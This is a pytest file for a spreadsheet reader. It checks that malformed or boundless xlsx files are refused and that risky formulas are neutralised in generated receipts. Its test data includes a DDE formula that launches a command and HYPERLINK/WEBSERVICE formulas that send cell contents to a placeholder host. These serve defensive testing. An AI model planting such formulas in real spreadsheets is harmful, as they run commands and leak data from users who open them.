"""What somebody made by hand to break the reader, or to have the next reader's spreadsheet do something."""

import io
import zipfile

import openpyxl
import pytest

from shuangying.core.problems import Invalid
from shuangying.core.sheets import open_book, receipt
from shuangying.core.sheets.tests.messy import saved, sheet_of, xlsx

PART = "xl/worksheets/sheet1.xml"
ROWS = [["项目名称", "总投资"], ["甲", 1]]


def altered(old, new, content=None):
    """A sheet with a piece of its own part replaced."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content or xlsx(ROWS))) as source, zipfile.ZipFile(out, "w") as target:
        for name in source.namelist():
            part = source.read(name)
            if name == PART:
                assert old.encode() in part
                part = part.replace(old.encode(), new.encode(), 1)
            target.writestr(name, part)
    return out.getvalue()


def merged(*ranges):
    return altered("</sheetData>", "</sheetData><mergeCells>" + "".join(f'<mergeCell ref="{r}"/>' for r in ranges))


def receipts(content, sheet=None):
    book = open_book(content)
    made = receipt(book, book.grid(sheet), {}, {}, headings=("结果", "原因"), header_row=1)
    return openpyxl.load_workbook(io.BytesIO(made))


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (altered('r="A2"', 'r="1A"'), "not_a_sheet"),
        (altered('<row r="2"', '<row r="x"'), "not_a_sheet"),
        (altered('<row r="2"', '<row r="-2"'), "not_a_sheet"),
        (altered("<sheetData>", '<cols><col min="x" max="2" hidden="1"/></cols><sheetData>'), "not_a_sheet"),
        (merged("hello"), "not_a_sheet"),
        (merged("A1:XFD1048576"), "sheet_too_large"),
        (merged(*("A1:A2" for _ in range(50_001))), "sheet_too_large"),
    ],
)
def test_a_broken_or_boundless_sheet_is_refused(content, code):
    with pytest.raises(Invalid) as refused:
        open_book(content).grid()
    assert refused.value.problem.code == code


def test_a_receipt_is_written_whatever_a_style_or_another_sheet_says():
    assert receipts(altered('r="B2"', 'r="B2" s="99999"')).active["B2"].value == 1
    workbook, _sheet = sheet_of([["x"], ["y"]])
    workbook.create_sheet("表")["A1"] = "项目名称"
    boundless = altered(
        "</sheetData>", '</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>', saved(workbook)
    )
    assert receipts(boundless, "表").active["A1"].value == "项目名称"


@pytest.mark.parametrize(
    ("formula", "stays"),
    [
        ("=SUM(B1:B1)*ROUND(附表!A1/2,2)", True),
        ("=cmd|'/c calc'!A1", False),
        ('=HYPERLINK("http://example.org/?"&A1,"x")', False),
        ('=1+WEBSERVICE("http://example.org/"&A1)', False),
        ("=[1]Sheet1!A1", False),
        ("='http://example.org/x.xls'!total", False),
    ],
)
def test_only_formulas_that_count_stay_live_in_a_receipt(formula, stays):
    workbook, sheet = sheet_of(ROWS)
    sheet["B2"] = formula
    workbook.create_sheet("附表")["A1"] = formula
    made = receipts(saved(workbook))
    cells = made["Sheet1"]["B2"], made["附表"]["A1"]
    assert [(cell.value, cell.data_type) for cell in cells] == [(formula, "f" if stays else "s")] * 2


def test_of_a_formula_that_reaches_out_the_shown_value_stays():
    workbook, sheet = sheet_of(ROWS)
    sheet["B2"] = '=HYPERLINK("x","3")'
    content = altered("<v></v>", "<v>3</v>", saved(workbook))
    assert receipts(content).active["B2"].value == 3
